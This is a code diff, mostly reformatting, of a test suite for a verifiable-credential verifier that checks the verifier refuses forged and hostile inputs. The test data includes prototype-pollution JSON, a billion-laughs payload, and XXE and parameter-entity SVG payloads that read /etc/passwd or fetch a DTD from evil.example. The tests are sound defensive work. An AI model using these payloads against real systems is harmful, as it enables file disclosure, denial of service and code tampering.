@@ -50,7 +50,8 @@ function badge(issuer: string, extra: Json = {}): Json {
   };
 }
 
-const verify = (input: unknown, options: VerifyOptions = {}) => verifyCredential(input, { now: NOW, ...options });
+const verify = (input: unknown, options: VerifyOptions = {}) =>
+  verifyCredential(input, { now: NOW, ...options });
 const clone = <T>(v: T): T => structuredClone(v);
 const enc = (v: unknown) => base64url.encode(typeof v === 'string' ? v : JSON.stringify(v));
 const decodePart = (part: string) => JSON.parse(new TextDecoder().decode(base64url.decode(part)));
@@ -143,7 +144,11 @@ describe('JOSE header attacks', () => {
     const token = await issueCredential(inner, { key: ed, format: 'vc-jwt' });
     const result = await verify(token);
     expectNotVerified(result, undefined, 'invalid');
-    expect(result.checks.some((c) => c.status === 'failed' && /PROOF_SIGNATURE_INVALID|ISSUER_KEY_MISMATCH/.test(c.code))).toBe(true);
+    expect(
+      result.checks.some(
+        (c) => c.status === 'failed' && /PROOF_SIGNATURE_INVALID|ISSUER_KEY_MISMATCH/.test(c.code),
+      ),
+    ).toBe(true);
   });
 });
 
@@ -154,7 +159,10 @@ describe('JSON-LD context attacks', () => {
   beforeAll(async () => {
     const credential = {
       ...badge(ed.controller),
-      '@context': ['https://www.w3.org/2018/credentials/v1', 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.1.json'],
+      '@context': [
+        'https://www.w3.org/2018/credentials/v1',
+        'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.1.json',
+      ],
       issuanceDate: '2025-01-01T00:00:00Z',
     };
     delete (credential as Json).validFrom;
@@ -185,7 +193,8 @@ describe('JSON-LD context attacks', () => {
 
   it('a nested context by URL outside an embedded credential → CONTEXT_NESTED', async () => {
     const forged = clone(legacy);
-    forged.credentialSubject.achievement['@context'] = 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.2.json';
+    forged.credentialSubject.achievement['@context'] =
+      'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.2.json';
     expectNotVerified(await verify(forged), 'CONTEXT_NESTED', 'invalid');
   });
 
@@ -217,7 +226,9 @@ describe('JSON-LD context attacks', () => {
   });
 
   it('@vocab in an inline context, signed by the issuer itself → CONTEXT_INLINE (no own vocabulary)', async () => {
-    const credential = badge(ed.controller, { '@context': [VC2, OB, { '@vocab': 'https://evil.example/#' }] });
+    const credential = badge(ed.controller, {
+      '@context': [VC2, OB, { '@vocab': 'https://evil.example/#' }],
+    });
     credential.undefinedTerm = 'smuggled past safe mode';
     const own = await signDataIntegrity(credential, {
       signer: await createSigner(ed),
@@ -303,7 +314,9 @@ describe('status lists', () => {
       { url: listUrl, purpose: 'revocation', bits: createBitstring() },
       { key: ed, created: CREATED, validFrom: '2025-01-01T00:00:00Z' },
     );
-    expect((await verify(credential, { documents: { [listUrl]: own!.credential } })).verdict).toBe('verified');
+    expect((await verify(credential, { documents: { [listUrl]: own!.credential } })).verdict).toBe(
+      'verified',
+    );
   });
 
   it('a status list is dated at the verifier’s `now`, not the machine clock (was the machine clock)', async () => {
@@ -327,7 +340,8 @@ describe('status lists', () => {
 });
 
 describe('prototype pollution', () => {
-  const POISON = '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"}}';
+  const POISON =
+    '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"}}';
   const snapshot = () => ({
     object: Object.getOwnPropertyNames(Object.prototype).sort().join(),
     array: Object.getOwnPropertyNames(Array.prototype).sort().join(),
@@ -346,20 +360,26 @@ describe('prototype pollution', () => {
     ['the root', (t) => t.replace('{', `{"__proto__":${POISON},"constructor":${POISON},`)],
     ['the subject', (t) => t.replace('"credentialSubject":{', `"credentialSubject":{"__proto__":${POISON},`)],
     ['the achievement', (t) => t.replace('"achievement":{', `"achievement":{"constructor":${POISON},`)],
-    ['the issuer', (t) => t.replace('"issuer":{', `"issuer":{"prototype":${POISON},"__proto__":{"id":"did:example:x"},`)],
+    [
+      'the issuer',
+      (t) => t.replace('"issuer":{', `"issuer":{"prototype":${POISON},"__proto__":{"id":"did:example:x"},`),
+    ],
     ['the proof', (t) => t.replace('"proof":{', `"proof":{"__proto__":${POISON},`)],
     ['the @context array', (t) => t.replace('"@context":[', `"@context":[${POISON},`)],
     ['the type array', (t) => t.replace('"type":[', `"type":[${POISON},`)],
   ];
 
-  it.each(places)('__proto__ / constructor / prototype keys in %s: refused, nothing polluted', async (_, inject) => {
-    const before = snapshot();
-    const text = inject(JSON.stringify(signed));
-    expect(text).not.toBe(JSON.stringify(signed));
-    const result = await verify(text);
-    expectNotVerified(result);
-    expectClean(before);
-  });
+  it.each(places)(
+    '__proto__ / constructor / prototype keys in %s: refused, nothing polluted',
+    async (_, inject) => {
+      const before = snapshot();
+      const text = inject(JSON.stringify(signed));
+      expect(text).not.toBe(JSON.stringify(signed));
+      const result = await verify(text);
+      expectNotVerified(result);
+      expectClean(before);
+    },
+  );
 
   it('… in a JWT header and payload: nothing polluted, never verified', async () => {
     const before = snapshot();
@@ -457,14 +477,16 @@ describe('Unicode', () => {
       created: CREATED,
     });
     for (const swapped of ['Level \uDC00', 'Level \uFFFD', 'Level \uD800']) {
-      const forged = clone(own);
+      const forged = clone(own) as Json;
       forged.credentialSubject.achievement.name = swapped;
       const result = await verify(forged);
       if (swapped.endsWith('\uFFFD')) {
         expect(result.verdict, explain(result)).toBe('verified');
       } else {
         expectNotVerified(result, 'PARSE_FAILED', 'invalid');
-        expect(result.checks[0]!.message).toMatch(/lone UTF-16 surrogate.* at \/credentialSubject\/achievement\/name$/);
+        expect(result.checks[0]!.message).toMatch(
+          /lone UTF-16 surrogate.* at \/credentialSubject\/achievement\/name$/,
+        );
       }
     }
   });
@@ -609,7 +631,9 @@ describe('slow and endless responses', () => {
       );
     const result = await verify(credential, { network: { fetch, maxBytes: 128 * 1024 } });
     expectNotVerified(result, 'STATUS_UNAVAILABLE', 'indeterminate');
-    expect(result.checks.find((c) => c.code === 'STATUS_UNAVAILABLE')?.message).toMatch(/ERR_FETCH_TOO_LARGE/);
+    expect(result.checks.find((c) => c.code === 'STATUS_UNAVAILABLE')?.message).toMatch(
+      /ERR_FETCH_TOO_LARGE/,
+    );
     expect(sent).toBeLessThan(1024 * 1024);
   });
 
@@ -632,8 +656,14 @@ describe('XML attacks on baked SVGs', () => {
 
   it.each([
     ['billion laughs', svgWith(laughs, '&lol9;')],
-    ['an external entity (XXE)', svgWith('<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;')],
-    ['a parameter entity', svgWith('<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>', 'x')],
+    [
+      'an external entity (XXE)',
+      svgWith('<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'),
+    ],
+    [
+      'a parameter entity',
+      svgWith('<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>', 'x'),
+    ],
   ])('%s → refused quickly, nothing expanded or fetched', async (_, svg) => {
     for (const input of [svg, new TextEncoder().encode(svg)]) {
       const started = Date.now();
